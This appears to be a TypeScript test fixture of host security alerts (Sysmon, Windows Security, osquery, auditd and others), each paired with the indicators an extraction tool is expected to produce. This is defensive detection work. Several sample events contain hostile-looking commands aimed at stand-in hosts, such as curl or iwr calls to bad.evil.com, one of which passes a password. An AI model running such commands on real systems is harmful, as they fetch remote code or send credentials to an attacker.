import type { JsonObject } from "../../../src/model/json.ts";

import type { Case } from "./case.ts";

const agent = { id: "001", name: "pc-1" };
const win = (
  eventID: string,
  eventdata: JsonObject,
  providerName = "Microsoft-Windows-Security-Auditing",
): JsonObject => ({
  agent,
  data: { win: { system: { eventID, providerName, computer: "PC1.corp.example" }, eventdata } },
});
const sysmon = (id: string, data: JsonObject): JsonObject =>
  win(id, { utcTime: "2026-01-01", ...data }, "Microsoft-Windows-Sysmon");

/** Alerts of endpoints, by extractor. */
export const HOST_CASES: Readonly<Record<string, readonly Case[]>> = {
  sysmon: [
    {
      event: sysmon("1", {
        image: "C:\\\\Windows\\\\System32\\\\cmd.exe",
        parentImage: "C:\\\\x\\\\p.exe",
        originalFileName: "Cmd.Exe",
        hashes: "SHA1=E5BEA8A7A8E9D0B5B2C9E0A1C1D2E3F405060708,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
        commandLine: "cmd /c curl http://bad.evil.com/x --password=hunter2",
        user: "CORP\\\\bob",
      }),
      wanted: [
        "path %windir%/system32/cmd.exe image",
        "path c:/x/p.exe parent-image",
        "filename cmd.exe file",
        "sha1 e5bea8a7a8e9d0b5b2c9e0a1c1d2e3f405060708 file",
        "imphash f34d5f2d4577ed6d9ceec516c1f5a744 file",
        "url http://bad.evil.com/x command",
      ],
      view: {
        outcome: "executed",
        facts: { host: "PC1.corp.example", commandLine: "cmd /c curl http://bad.evil.com/x --password=***" },
      },
    },
    {
      event: sysmon("3", {
        image: "C:\\x.exe",
        sourceIp: "10.0.0.5",
        destinationIp: "8.8.8.8",
        destinationPort: "53",
        destinationHostname: "dns.google",
      }),
      wanted: ["ip 10.0.0.5 source", "ip 8.8.8.8 destination :53", "domain dns.google destination"],
      view: { outcome: "allowed", direction: "outbound" },
    },
    {
      event: sysmon("22", {
        image: "C:\\x.exe",
        queryName: "a.local",
        queryResults: "type:  5 b.evil.com;::ffff:1.2.3.4;2001:db8::1;",
      }),
      wanted: ["domain a.local query", "domain b.evil.com answer", "ip 1.2.3.4 answer", "ip 2001:db8::1 answer"],
      view: { direction: "outbound" },
    },
    {
      event: {
        agent,
        data: {
          eventdata: { DestinationIp: "1.2.3.4", Image: "/usr/bin/curl", UtcTime: "x" },
          system: { EventID: "3" },
        },
      },
      wanted: ["ip 1.2.3.4 destination", "path /usr/bin/curl image"],
      view: { outcome: "allowed" },
    },
    {
      event: sysmon("13", { image: "C:\\x.exe", targetObject: "HKU\\S-1-5-21-1-2-3-4\\Software\\Run\\x" }),
      wanted: ["regkey hkcu\\software\\run\\x registry"],
      view: { outcome: "written" },
    },
    {
      event: sysmon("23", { image: "C:\\x.exe", targetFilename: "C:\\a\\b.exe" }),
      wanted: ["path c:/a/b.exe target"],
      view: { outcome: "deleted" },
    },
  ],
  "windows-security": [
    {
      event: win("1116", {
        path: "file:_D:\\\\x\\\\m64.exe; webfile:_C:\\\\y.zip|https://dl.evil.com/y.zip|pid:1; regkey:_HKLM\\\\SOFTWARE\\\\x\\\\\\\\m",
      }),
      wanted: [
        "path d:/x/m64.exe file",
        "path c:/y.zip file",
        "url https://dl.evil.com/y.zip file",
        "domain dl.evil.com file",
        "regkey hklm\\software\\x\\m file",
      ],
    },
    {
      event: win("4625", { ipAddress: "1.2.3.4", ipPort: "50000", targetUserName: "bob@corp.example" }),
      wanted: ["ip 1.2.3.4 source :50000", "email bob@corp.example user"],
      view: { outcome: "failure", direction: "inbound" },
    },
    {
      event: win("7045", { imagePath: '\\"C:\\\\x\\\\svc.exe\\" -k run http://bad.evil.com/x' }),
      wanted: ["path c:/x/svc.exe image", "url http://bad.evil.com/x image"],
      view: { outcome: "written" },
    },
    {
      event: win("1117", { path: "file:_C:\\\\x\\\\a.exe; containerfile:_C:\\\\x\\\\b.zip" }, "Windows Defender"),
      wanted: ["path c:/x/a.exe file", "path c:/x/b.zip file"],
      view: { outcome: "denied" },
    },
    {
      event: win("4104", { scriptBlockText: "iwr https://bad.evil.com/x" }),
      wanted: ["url https://bad.evil.com/x command", "domain bad.evil.com command"],
    },
  ],
  syscheck: [
    {
      event: {
        agent,
        syscheck: {
          path: "/usr/bin/x",
          event: "added",
          sha256_after: `${"a".repeat(63)}1`,
          md5_before: `${"b".repeat(31)}2`,
          audit: { process: { name: "/bin/sh" } },
        },
      },
      wanted: [
        "path /usr/bin/x file",
        `sha256 ${"a".repeat(63)}1 file`,
        `md5 ${"b".repeat(31)}2 file-before`,
        "path /bin/sh image",
      ],
      view: { outcome: "written" },
    },
    {
      event: { agent, syscheck: { path: "HKEY_LOCAL_MACHINE\\Software\\x", value_name: "Run", event: "deleted" } },
      wanted: ["regkey hklm\\software\\x file", "regkey hklm\\software\\x\\run registry"],
      view: { outcome: "deleted" },
    },
  ],
  auth: [
    {
      event: {
        agent,
        decoder: { name: "sshd" },
        full_log: "Accepted password for bob from 1.2.3.4",
        data: { srcip: "1.2.3.4", dstuser: "bob" },
      },
      wanted: ["ip 1.2.3.4 source"],
      view: { outcome: "success", direction: "inbound", facts: { user: "bob" } },
    },
    {
      event: { agent, decoder: { name: "pam" }, full_log: "authentication failure; rhost=host.evil.com  user=bob" },
      wanted: ["domain host.evil.com source"],
      view: { outcome: "failure" },
    },
  ],
  osquery: [
    {
      event: {
        agent,
        data: {
          osquery: {
            columns: { path: "/tmp/x", remote_address: "1.2.3.4", remote_port: "80", cmdline: "curl bad.evil.com/x" },
            action: "removed",
          },
        },
      },
      wanted: ["path /tmp/x file", "ip 1.2.3.4 remote :80", "domain bad.evil.com command"],
      view: { outcome: "deleted" },
    },
  ],
  auditd: [
    {
      event: {
        agent,
        data: {
          audit: {
            exe: "/usr/bin/curl",
            success: "no",
            file: { name: "/tmp/x" },
            cwd: "/root",
            execve: { a0: "curl", a1: "http://bad.evil.com/x" },
          },
        },
      },
      wanted: ["path /usr/bin/curl image", "path /tmp/x file", "url http://bad.evil.com/x command"],
      view: { outcome: "failure", facts: { commandLine: "curl http://bad.evil.com/x" } },
    },
  ],
  vulnerability: [
    {
      event: {
        agent,
        data: { vulnerability: { cve: "CVE-2024-1", title: "CVE-2024-01000", condition: "10.0.0.0 <= version" } },
      },
      wanted: ["cve CVE-2024-01000 text"],
    },
  ],
  generic: [
    {
      event: {
        agent,
        data: {
          src_ip: "1.2.3.4",
          ja3: `${"a".repeat(31)}1`,
          file_sha256: `${"b".repeat(63)}1`,
          mutex_name: "Global\\x",
          registry_key: "HKLM\\x\\y",
          guid: `${"c".repeat(31)}1`,
          image: "registry.evil.com/miner:1.4.2.9",
        },
      },
      wanted: [
        "ip 1.2.3.4 source",
        `ja3 ${"a".repeat(31)}1 fingerprint`,
        `sha256 ${"b".repeat(63)}1 file`,
        "mutex Global\\x text",
        "regkey hklm\\x\\y registry",
      ],
    },
  ],
};
